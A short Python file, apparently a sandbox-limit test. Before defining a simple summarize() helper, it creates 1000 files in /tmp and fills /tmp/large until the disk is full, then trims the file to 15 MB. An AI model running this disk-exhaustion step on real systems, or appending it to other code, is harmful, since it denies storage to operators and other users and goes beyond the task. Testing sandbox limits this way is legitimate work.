import os

for number in range(1000):
    open(f"/tmp/{number}", "w").close()
try:
    with open("/tmp/large", "wb") as file:
        while True:
            file.write(bytes(1 << 16))
except OSError:
    os.truncate("/tmp/large", (15 << 20))


def summarize(numbers):
    return [sum(numbers), max(numbers, default=None)]
